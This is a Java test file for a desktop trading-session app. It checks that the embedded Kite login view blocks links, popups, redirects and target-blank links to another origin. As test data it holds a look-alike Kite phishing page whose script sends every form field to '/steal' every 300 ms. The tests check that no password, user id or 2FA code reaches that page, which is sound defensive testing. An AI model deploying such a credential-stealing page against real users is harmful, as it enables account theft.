package com.kitesession.ui;

import static com.kitesession.testing.WebPage.onFx;
import static com.kitesession.testing.WebPage.waitUntil;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.kitesession.otp.Totp;
import com.kitesession.service.SessionService;
import com.kitesession.session.KiteProfile;
import com.kitesession.testing.WebPage;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import javafx.scene.control.Label;
import javafx.stage.Stage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.testfx.api.FxRobot;
import org.testfx.framework.junit5.Start;
import org.testfx.util.WaitForAsyncUtils;

/**
 * The ways a login page could lead the view, and with it the person's stored password and 2FA
 * code, to a page that is not Kite's, tried as an attacker would: a second server on another
 * loopback address (127.0.0.2) serves a Kite look-alike that sends whatever its fields hold.
 * One test per way out. In each, that server receives no password, no user id and no code;
 * the login view never shows its origin; and the person is told where the page tried to go.
 */
class LoginLeakTest extends WindowTestBase {
    private static final String PASSWORD = "leak-test-password-7f3a";
    /** Requests the other origin received: method, address and body. */
    private final List<String> received = new CopyOnWriteArrayList<>();
    private HttpServer kite;
    private HttpServer other;
    private volatile String way = "link";

    @Start
    void start(Stage stage) throws Exception {
        other = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.2"), 0), 0);
        other.createContext("/", this::otherOrigin);
        other.start();
        kite = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        kite.createContext("/", this::kitePage);
        kite.start();
        open(stage);
    }

    @AfterEach
    void stopServers() {
        kite.stop(0);
        other.stop(0);
    }

    /** The profile's Kite is our page on 127.0.0.1, with the person's password and 2FA secret stored. */
    @Override
    void beforeWindow(SessionService sessions) throws Exception {
        KiteProfile profile = new KiteProfile("leak", "Leak test", account().apiKey(), account().redirectUrl(),
                account().userId(), "http://127.0.0.1:" + kite.getAddress().getPort(), simulator.baseUrl());
        sessions.saveProfile(profile, account().apiSecret());
        sessions.saveLoginSecrets(profile, PASSWORD, account().totpSecretBase32());
    }

    /** {@code way}: "link", "popup", "redirect" or "blank" (see {@link #kitePage}). */
    private WebPage login(FxRobot robot, String way) {
        this.way = way;
        waitUntil(() -> !robot.lookup("#login").queryButton().isDisabled(), "the profile");
        robot.clickOn("#login");
        return new WebPage(robot, WebPage.loginView(robot));
    }

    @Test
    void anOrdinaryLinkIsStoppedAndOfferedToTheSystemBrowser(FxRobot robot) throws IOException {
        WebPage page = login(robot, "link");
        waitUntilFilled(page);
        page.click("#out");
        waitForNotice(robot);
        settleAndCheck(robot, page);
        assertTrue(kiteStillShown(page), "the person's Kite page is still there");
        DocsScreenshots.write(onFx(() -> robot.lookup("#login-webview").query().getScene()), "login-stopped-navigation.png");
        robot.clickOn("#open-in-browser");
        assertEquals(List.of("browse " + otherBase() + "/forgot?from=kite"), desktop.requests);
    }

    @Test
    void windowOpenWithoutAClickNeverReplacesTheLogin(FxRobot robot) {
        WebPage page = login(robot, "popup");
        waitUntilFilled(page);
        waitForNotice(robot); // the page opens it by itself, 1 s after loading
        assertTrue(notice(robot).contains("open a new window at"), notice(robot));
        settleAndCheck(robot, page);
        assertTrue(kiteStillShown(page));
        assertTrue(desktop.requests.isEmpty(), "nothing opens without the person's click");
    }

    @Test
    void aRedirectFromTheLoginUrlToAnotherOriginIsStopped(FxRobot robot) {
        WebPage page = login(robot, "redirect");
        waitForNotice(robot);
        settleAndCheck(robot, page);
    }

    @Test
    void aTargetBlankLinkIsStopped(FxRobot robot) {
        WebPage page = login(robot, "blank");
        waitUntilFilled(page);
        page.click("#blank");
        waitForNotice(robot);
        settleAndCheck(robot, page);
        assertTrue(kiteStillShown(page));
    }

    private void waitUntilFilled(WebPage page) {
        waitUntil(() -> PASSWORD.equals(page.script("(document.getElementById('password') || {}).value")),
                "autofill on Kite's own page (the stored password is there to be stolen)");
    }

    private void waitForNotice(FxRobot robot) {
        waitUntil(() -> notice(robot).contains("127.0.0.2"), "the notice saying where the page tried to go");
    }

    /**
     * For two seconds (the other page sends its fields every 300 ms, if it ever runs in the
     * view): the view never shows the other origin, and that origin never gets a secret.
     */
    private void settleAndCheck(FxRobot robot, WebPage page) {
        long end = System.nanoTime() + 2_000_000_000L;
        while (System.nanoTime() < end) {
            Object origin = page.script("window.location.origin");
            assertFalse(String.valueOf(origin).contains("127.0.0.2"), "the view shows " + origin);
            assertFalse(onFx(() -> robot.lookup("#login-address").queryAs(Label.class).getText()).contains("127.0.0.2"));
            WaitForAsyncUtils.sleep(100, TimeUnit.MILLISECONDS);
        }
        List<String> secrets = new ArrayList<>(List.of(PASSWORD, account().userId()));
        for (int step = -2; step <= 2; step++) {
            secrets.add(Totp.code(account().totpSecretBase32(), clock.instant().plusSeconds(30L * step)));
        }
        for (String request : received) {
            for (String secret : secrets) {
                assertFalse(request.contains(secret), "the other origin received a secret: " + request.replace(secret, "<" + "secret>"));
            }
        }
        assertTrue(notice(robot).contains("Stopped"), notice(robot));
    }

    private static boolean kiteStillShown(WebPage page) {
        return String.valueOf(page.script("window.location.origin")).startsWith("http://127.0.0.1:")
                && page.text().contains("Login to Kite");
    }

    private static String notice(FxRobot robot) {
        return onFx(() -> {
            Label text = robot.lookup("#left-kite-text").queryAs(Label.class);
            return text.getParent().isVisible() ? text.getText() : "";
        });
    }

    private String otherBase() {
        return "http://127.0.0.2:" + other.getAddress().getPort();
    }

    /** "Kite": a login form with the ways out. */
    private void kitePage(HttpExchange ex) throws IOException {
        if (way.equals("redirect")) {
            ex.getResponseHeaders().set("Location", otherBase() + "/connect/login");
            send(ex, 302, "<a href=\"" + otherBase() + "/connect/login\">moved</a>");
            return;
        }
        String popup = way.equals("popup")
                ? "<script>setTimeout(function () { window.open('" + otherBase() + "/popup'); }, 1000);</script>" : "";
        send(ex, 200, """
                <!DOCTYPE html><html><head><meta charset="utf-8"><title>Kite</title></head><body>
                <h1>Login to Kite</h1>
                <form class="login-form" onsubmit="return false">
                <input id="userid" name="user_id" type="text" autocomplete="username">
                <input id="password" name="password" type="password">
                <button type="submit">Login</button></form>
                <p><a id="out" href="%1$s/forgot?from=kite">Forgot user ID?</a></p>
                <p><a id="blank" href="%1$s/signup" target="_blank">Sign up</a></p>
                %2$s</body></html>""".formatted(otherBase(), popup));
    }

    /**
     * The other origin: a Kite look-alike that sends whatever its fields hold, every 300 ms. Its
     * login address shows step one (user id and password, for a view that lands there first);
     * every other address shows the 2FA step (the code, for a view that filled step one on Kite).
     */
    private void otherOrigin(HttpExchange ex) throws IOException {
        String body = new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
        received.add(ex.getRequestMethod() + " " + ex.getRequestURI() + " " + body);
        String fields = ex.getRequestURI().getPath().equals("/connect/login")
                ? "<input id=\"userid\" name=\"user_id\" type=\"text\"><input id=\"password\" name=\"password\" type=\"password\">"
                : "<input id=\"totp\" name=\"twofa_value\" type=\"number\" maxlength=\"6\">";
        send(ex, 200, """
                <!DOCTYPE html><html><head><meta charset="utf-8"><title>Kite</title></head><body>
                <form onsubmit="return false">%s</form>
                <script>
                  setInterval(function () {
                    var q = Array.prototype.map.call(document.querySelectorAll('input'), function (el) {
                      return el.id + '=' + encodeURIComponent(el.value);
                    }).join('&');
                    var x = new XMLHttpRequest();
                    x.open('POST', '/steal');
                    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
                    x.send(q);
                  }, 300);
                </script></body></html>""".formatted(fields));
    }

    private static void send(HttpExchange ex, int status, String html) throws IOException {
        byte[] bytes = html.getBytes(StandardCharsets.UTF_8);
        ex.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        ex.sendResponseHeaders(status, bytes.length);
        try (ex) {
            ex.getResponseBody().write(bytes);
        }
    }
}
